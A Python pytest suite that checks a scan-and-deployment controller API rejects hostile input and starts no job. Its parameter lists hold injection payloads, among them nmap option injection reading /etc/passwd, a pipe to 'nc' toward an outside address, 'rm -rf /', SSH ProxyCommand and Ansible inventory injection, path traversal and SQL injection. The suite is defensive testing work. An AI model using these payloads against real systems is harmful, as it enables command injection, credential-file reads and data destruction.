"""A corpus of hostile input: every item is refused with a clear 400/403/404/413 and nothing is started."""

from __future__ import annotations

import pytest
from sqlalchemy import func, select

from controller.store.models import Job

SCAN = {"target": "198.18.0.10", "tool": "nmap", "scan_type": "default", "ports": "22"}
HOST = {"hosts": ["198.18.0.20"], "os_type": "linux", "username": "root", "password": "pw"}
AGENT = {"target": "198.18.0.20", "os_type": "linux", "username": "root", "password": "pw", "agent_name": "web1"}
WRONG_TYPES = [0, 1.5, True, [], {}, ["198.18.0.10"], {"$ne": 1}, "x" * 5000]

HOSTILE_TARGETS = [
    # option injection
    "-iL /etc/passwd",
    "-iL",
    "--script=vuln",
    "--script",
    "-oN x",
    "-oG/tmp/x",
    "198.18.0.10 -oN /tmp/x",
    "198.18.0.10 --script http-enum",
    "--excludefile=/etc/shadow",
    # shell metacharacters
    "198.18.0.10;id",
    "198.18.0.10 && id",
    "198.18.0.10|nc 1.2.3.4 4444",
    "$(id)",
    "`id`",
    "198.18.0.10>/tmp/x",
    "${IFS}id",
    "'198.18.0.10'",
    '"198.18.0.10"',
    # newlines and NUL bytes
    "198.18.0.10\n-iL /etc/passwd",
    "198.18.0.10\r\n",
    "198.18.0.10\x00-iL x",
    "\x00",
    "198.18.0.10\t",
    # IPv6 tricks
    "fe80::1%eth0",
    "::ffff:8.8.8.8",
    "::ffff:c0a8:1",
    "[::1]",
    "::/0",
    "2001:db8::/16",
    "64:ff9b::8.8.8.8",
    # other address spellings
    "0x7f.1",
    "2130706433",
    "127.1",
    "0177.0.0.1",
    "8.8.8.8",
    "198.18.0.10/33",
    "198.18.0.10-20",
    "10.0.0.0-255",
    "198-18-0-10",
    # enormous CIDRs
    "0.0.0.0/0",
    "10.0.0.0/8",
    "198.18.0.0/15",
    # unicode look-alikes and oddities
    "\uff4c\uff4f\uff43\uff41\uff4c\uff48\uff4f\uff53\uff54",  # fullwidth "localhost"
    "l\u043ecalhost",  # Cyrillic o
    "198.18.0.\uff11\uff10",  # fullwidth digits
    "198\u200b.18.0.10",
    "\u0661\u0669\u0668.\u0661\u0668.\u0660.\u0661\u0660",  # Arabic-Indic digits
    "xn--",
    # traversal, length, emptiness
    "../../etc/passwd",
    "/etc/passwd",
    "a" * 300,
    "",
    " ",
    " 198.18.0.10",
]


def job_count(app) -> int:
    with app.extensions["cloudx.db"].session() as session:
        return session.scalar(select(func.count()).select_from(Job))


def refused(response, *codes: int) -> dict:
    assert response.status_code in (codes or (400, 403)), (response.status_code, response.get_json())
    body = response.get_json()
    assert isinstance(body, dict) and isinstance(body["error"], str) and body["error"]
    return body


@pytest.mark.parametrize("target", HOSTILE_TARGETS)
def test_hostile_scan_targets(app, client, target):
    refused(client.post("/api/scans", json={**SCAN, "target": target}))
    assert job_count(app) == 0


@pytest.mark.parametrize(
    ("field", "value"),
    [
        ("ports", "22;id"),
        ("ports", "-p-"),
        ("ports", "1-65536"),
        ("ports", "0"),
        ("ports", "22,"),
        ("ports", "22\n"),
        ("ports", "\u0662\u0662"),
        ("ports", "22 --script x"),
        ("ports", "T:22"),
        ("tool", "nmap --script"),
        ("tool", "NMAP"),
        ("tool", "/usr/bin/nmap"),
        ("scan_type", "../default"),
        ("scan_type", "default;id"),
        ("timeout", -1),
        ("timeout", 10**12),
        ("timeout", "60"),
        ("timeout", 1.5),
    ],
)
def test_hostile_scan_fields(app, client, field, value):
    refused(client.post("/api/scans", json={**SCAN, field: value}), 400)
    assert job_count(app) == 0


@pytest.mark.parametrize("field", [*sorted(SCAN), "timeout"])
@pytest.mark.parametrize("value", WRONG_TYPES, ids=lambda v: type(v).__name__ + str(len(str(v))))
def test_wrong_types_for_every_scan_field(app, client, field, value):
    refused(client.post("/api/scans", json={**SCAN, field: value}), 400)
    assert job_count(app) == 0


@pytest.mark.parametrize(
    ("body"),
    [
        {**HOST, "hosts": ["-oProxyCommand=id"]},
        {**HOST, "hosts": ["198.18.0.20 -o ProxyCommand=id"]},
        {**HOST, "hosts": ["198.18.0.20,198.18.0.21"]},
        {**HOST, "hosts": ["198.18.0.0/24"]},
        {**HOST, "hosts": ["203.0.113.5"]},
        {**HOST, "hosts": ["198.18.0.20\n[all:vars]\nansible_connection=local"]},
        {**HOST, "hosts": [f"198.18.{i // 250}.{i % 250}" for i in range(1001)]},
        {**HOST, "hosts": []},
        {**HOST, "hosts": "198.18.0.20"},
        {**HOST, "username": "root;id"},
        {**HOST, "username": "-oProxyCommand=id"},
        {**HOST, "username": "root\nansible_connection: local"},
        {**HOST, "password": "pw\x00"},
        {**HOST, "password": ""},
        {**HOST, "password": "x" * 20000},
        {**HOST, "ssh_key": "not a key"},
        {**HOST, "manager_ip": "$(id)"},
        {**HOST, "manager_ip": "198.18.0.0/24"},
        {**HOST, "group": "../../etc"},
        {**HOST, "group": "g\ng"},
        {**HOST, "group": "g\n"},
        {**HOST, "username": "root\n"},
        {**HOST, "known_hosts": "198.18.0.20 ssh-ed25519 AAAA\n\n198.18.0.21 ssh-ed25519 AAAA\n-oProxyCommand=id x y"},
        {**HOST, "os_type": "linux; rm -rf /"},
        {**HOST, "state": "gone"},
        {**HOST, "known_hosts": "198.18.0.20 ssh-ed25519 AAAA\n@cert-authority * ssh-ed25519 AAAA"},
        {**HOST, "known_hosts": "198.18.0.20,* ssh-ed25519 AAAA"},
        {**HOST, "credential": "../x"},
        {**HOST, "extra_vars": {"ansible_connection": "local"}},
        {**HOST, "ansible_ssh_common_args": "-oProxyCommand=id"},
        {"limit": "all -e ansible_connection=local", "os_type": "linux"},
        {"limit": "-i/etc/passwd"},
        {"limit": "--"},
        {"limit": "all\nlocalhost"},
        {"limit": "@/etc/passwd"},
        {"limit": "nomatch"},
    ],
)
def test_hostile_deployments(app, client, body):
    refused(client.post("/api/deployments", json=body))
    assert job_count(app) == 0


@pytest.mark.parametrize(
    ("field", "value"),
    [
        ("agent_name", "web1\nweb2"),
        ("agent_name", "web1\n"),
        ("agent_name", "-x"),
        ("agent_name", "a" * 200),
        ("target", "198.18.0.20 198.18.0.21"),
        ("port", "22"),
        ("port", 70000),
        ("port", True),
        ("os_type", "Windows"),
    ],
)
def test_hostile_agent_requests(app, client, field, value):
    refused(client.post("/api/deploy/agent", json={**AGENT, field: value}), 400)
    assert job_count(app) == 0


@pytest.mark.parametrize("field", sorted(AGENT))
@pytest.mark.parametrize("value", WRONG_TYPES, ids=lambda v: type(v).__name__ + str(len(str(v))))
def test_wrong_types_for_every_agent_field(app, client, field, value):
    if field == "password" and isinstance(value, str):
        pytest.skip("a long password is a password")
    refused(client.post("/api/deploy/agent", json={**AGENT, field: value}), 400)
    assert job_count(app) == 0


@pytest.mark.parametrize(
    "path",
    [
        "/api/scripts/linux/..%2f..%2fetc%2fpasswd",
        "/api/scripts/linux/%2e%2e",
        "/api/scripts/linux/..",
        "/api/scripts/../../etc/passwd",
        "/api/scripts/linux/.hidden",
        "/api/scripts/linux/remove-threat.py%00.txt",
        "/api/scripts/linux/remove-threat.py%0a",
        "/api/scripts/windows/..%5c..%5cpyproject.toml",
        "/api/scripts/etc/passwd",
        "/api/scripts/linux/%2fetc%2fpasswd",
        "/api/scripts/linux/" + "a" * 300,
        "/api/scripts/%2e%2e/pyproject.toml",
    ],
)
def test_script_path_traversal(client, path):
    response = client.get(path)
    assert response.status_code in (400, 404), (path, response.status_code)
    assert b"root:x:0:0" not in response.data and b"[project]" not in response.data


@pytest.mark.parametrize(
    ("data", "content_type", "status"),
    [
        (b"{", "application/json", 400),
        (b'{"target": }', "application/json", 400),
        (b"[]", "application/json", 400),
        (b"null", "application/json", 400),
        (b'"198.18.0.10"', "application/json", 400),
        (b"", "application/json", 400),
        (b"[" * 50_000, "application/json", 400),
        (b'{"target": "198.18.0.10", "target": "8.8.8.8", "tool": "nmap", "scan_type": "default"}', "application/json", 400),
        (b'{"target": "198.18.0.10", "tool": "nmap", "scan_type": "default", "timeout": NaN}', "application/json", 400),
        (b'{"target": "198.18.0.10", "tool": "nmap", "scan_type": "default", "timeout": Infinity}', "application/json", 400),
        (b'{"target": "\xff\xfe"}', "application/json", 400),
        (b"target=198.18.0.10&tool=nmap", "application/x-www-form-urlencoded", 400),
        (b'{"target": "198.18.0.10"}', "text/plain", 400),
        (b'{"a": "' + b"x" * 70_000 + b'"}', "application/json", 413),
        (b"[" + b"1," * 40_000 + b"1]", "application/json", 413),
    ],
)
def test_malformed_and_huge_bodies(app, client, data, content_type, status):
    for path in ("/api/scans", "/api/deployments", "/api/deploy/agent", "/api/tokens", "/api/credentials"):
        refused(client.post(path, data=data, content_type=content_type), status)
    refused(client.put("/api/policy", data=data, content_type=content_type), status)
    assert job_count(app) == 0


@pytest.mark.parametrize(
    "query",
    [
        "/api/jobs?limit=-1",
        "/api/jobs?limit=abc",
        "/api/jobs?limit=²",
        "/api/jobs?limit=0",
        "/api/jobs?limit=99999999999999999999999",
        "/api/jobs?cursor=%00%00",
        "/api/jobs?cursor=not-a-cursor",
        "/api/scans?before=1e3",
        "/api/scans?before=99999999999999999999999",
        "/api/scans?before=-1",
        "/api/audit?before=x",
        "/api/system-monitor?target=-iL%20x",
        "/api/system-monitor?target=198.18.0.0/24",
        "/api/system-monitor?target=8.8.8.8",
    ],
)
def test_hostile_query_arguments(client, query):
    refused(client.get(query))


@pytest.mark.parametrize("job_id", ["../../etc/passwd", "%00", "' OR 1=1 --", "x" * 300])
def test_hostile_job_ids(client, job_id):
    for response in (
        client.get(f"/api/jobs/{job_id}"),
        client.get(f"/api/jobs/{job_id}/events?after=0"),
        client.get(f"/api/scans/{job_id}"),
    ):
        assert response.status_code in (400, 404), response.status_code
    assert client.post(f"/api/jobs/{job_id}/cancel").status_code in (400, 404)
    assert client.delete(f"/api/scans/{job_id}").status_code in (400, 404)
